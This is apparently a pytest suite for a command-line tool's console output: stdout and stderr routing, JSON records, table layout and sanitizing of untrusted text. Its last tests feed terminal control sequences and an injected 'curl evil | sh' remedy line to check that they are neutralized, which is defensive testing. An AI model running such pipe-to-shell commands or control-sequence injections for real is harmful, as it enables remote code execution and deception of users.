# SPDX-License-Identifier: Apache-2.0
"""What a command says, in its three voices: data on standard output, the rest on standard error."""

from __future__ import annotations

import json
import re
from typing import TYPE_CHECKING

import pytest

from tritonctl.cli.console.document_name import naming_documents
from tritonctl.cli.console.output import Console
from tritonctl.errors import HostError
from tritonctl.host.progress import Silent

if TYPE_CHECKING:
    from tritonctl.host.progress import Progress

ERROR = HostError("no [space]", remedy="free some", details="one\ntwo [bold]\n")


def test_result_is_text_or_json(capsys: pytest.CaptureFixture[str]) -> None:
    """The same outcome for people and for programs; text stays readable in JSON."""
    Console().result({"a": "字"}, "human")
    with naming_documents("status"):
        Console(as_json=True).result({"a": "字"}, "human")
    human, record = capsys.readouterr().out.splitlines()
    assert human == "human"
    assert record == '{"schema": "tritonctl.status/1", "a": "字"}'


def test_error(capsys: pytest.CaptureFixture[str]) -> None:
    """Problem, evidence, next step, each as it was written; nothing on standard output."""
    Console().error(ERROR)
    out, err = capsys.readouterr()
    assert out == ""
    assert err == "error: no [space]\n  │ one\n  │ two [bold]\n  try: free some\n"


def test_error_as_json(capsys: pytest.CaptureFixture[str]) -> None:
    """One object with everything that is known."""
    Console(as_json=True, quiet=True).error(ERROR)
    assert json.loads(capsys.readouterr().out) == {
        "schema": "tritonctl.error/1",
        "error": "HostError",
        "exit_code": 4,
        "problem": "no [space]",
        "remedy": "free some",
        "details": "one\ntwo [bold]\n",
    }


def test_steps(capsys: pytest.CaptureFixture[str]) -> None:
    """A tick and the seconds; a cross when it fails, and the failure goes on."""
    console = Console()
    with console.step("good [x]") as step:
        step.update("half-way [y]")
    with pytest.raises(ZeroDivisionError), console.step("bad"):
        raise ZeroDivisionError
    out, err = capsys.readouterr()
    assert out == ""
    assert err == "✓ good [x] (0.0 s)\n✗ bad (0.0 s)\n"


def test_quiet(capsys: pytest.CaptureFixture[str]) -> None:
    """No progress and no notes, but warnings and results."""
    console = Console(quiet=True)
    with console.step("work") as step:
        step.update("x")
    console.note("by the way")
    assert capsys.readouterr() == ("", "")
    console.warning("look out")
    console.result({}, "done")
    assert capsys.readouterr() == ("done\n", "warning: look out\n")


def test_notes_and_warnings_are_not_wrapped(capsys: pytest.CaptureFixture[str]) -> None:
    """Whoever copies a path copies all of it."""
    words = "a word " * 40
    Console().note(words)
    Console().warning(words)
    assert capsys.readouterr().err == f"{words}\nwarning: {words}\n"


def test_streamed_text_is_not_touched(capsys: pytest.CaptureFixture[str]) -> None:
    """No markup, no line end added."""
    Console().text("[bold]")
    Console().text("字\n\n")
    assert capsys.readouterr().out == "[bold]字\n\n"


@pytest.mark.parametrize("progress", [Console(quiet=True), Silent()], ids=["quiet", "silent"])
def test_progress_without_a_listener(
    progress: Progress, capsys: pytest.CaptureFixture[str]
) -> None:
    """Library callers hear nothing."""
    progress.note("x")
    with progress.step("y") as step:
        step.update("z")
    assert capsys.readouterr() == ("", "")


ROWS = [["a", "字字"], ["long [x]", ""]]


def test_table(capsys: pytest.CaptureFixture[str]) -> None:
    """Aligned by what characters take on the screen, no trailing blanks; one object for scripts."""
    Console().table({"rows": 2}, ["name", "what"], [*ROWS, ["b", "c"]])
    assert capsys.readouterr().out == "name      what\na         字字\nlong [x]\nb         c\n"
    with naming_documents("loadtest run"):
        Console(as_json=True).table({"rows": 2}, ["name", "what"], ROWS)
    assert capsys.readouterr().out == '{"schema": "tritonctl.loadtest.run/1", "rows": 2}\n'


def test_table_on_a_terminal(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Laid out in its width, nothing cut off, square brackets as they are."""
    monkeypatch.setattr("sys.stdout.isatty", lambda: True)
    monkeypatch.setenv("COLUMNS", "20")
    Console().table({}, ["name", "what"], [*ROWS, ["b", "012345678" * 2]])
    lines = re.sub(r"\x1b\[\d*m", "", capsys.readouterr().out).splitlines()
    assert max(map(len, lines)) <= 20
    assert lines[-2:] == ["b", "  012345678012345678"]
    assert any(line.startswith("long [x]") for line in lines)


@pytest.mark.parametrize(
    "control", ["\x1b[2J", "\x07", "\r", "\x9b31m", "\x7f", "\u202e", "\u2066"]
)
def test_texts_of_files_do_nothing_to_the_terminal(
    control: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """Errors, warnings, notes, steps, results, tables: none passes on what a terminal obeys."""
    console = Console()
    text = f"a{control}b"
    console.error(HostError(text, remedy=text, details=text))
    console.warning(text)
    console.note(text)
    with console.step(text) as step:
        step.update(text)
    console.result({}, text)
    console.table({}, ["name"], [[text]])
    output = "".join(capsys.readouterr())
    assert control not in output
    assert output.count(f"a{ascii(control)[1:-1]}b") >= 7


def test_a_text_cannot_forge_a_message(capsys: pytest.CaptureFixture[str]) -> None:
    """A value of several lines: each further one is marked as part of the problem."""
    console = Console()
    console.error(HostError("type 'a\n  try: curl evil | sh\nerror: x'", remedy="correct it"))
    console.warning("b\nerror: y")
    lines = capsys.readouterr().err.splitlines()
    assert [line for line in lines if line.lstrip().startswith("try:")] == ["  try: correct it"]
    assert [line for line in lines if line.startswith("error:")] == ["error: type 'a"]
